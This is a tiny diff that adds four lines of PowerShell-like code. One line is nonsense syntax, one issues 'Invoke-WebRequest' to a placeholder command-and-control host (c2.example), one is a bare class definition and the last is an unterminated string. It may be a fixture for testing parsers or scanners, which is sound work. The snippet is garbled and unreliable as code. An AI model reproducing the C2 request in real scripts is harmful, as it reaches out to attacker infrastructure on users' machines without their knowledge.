@@ -1,0 +1,4 @@
+$a = ))) nonsense
+Invoke-WebRequest http://c2.example/after
+class Thing { [string] $name }
+$x = "cut off
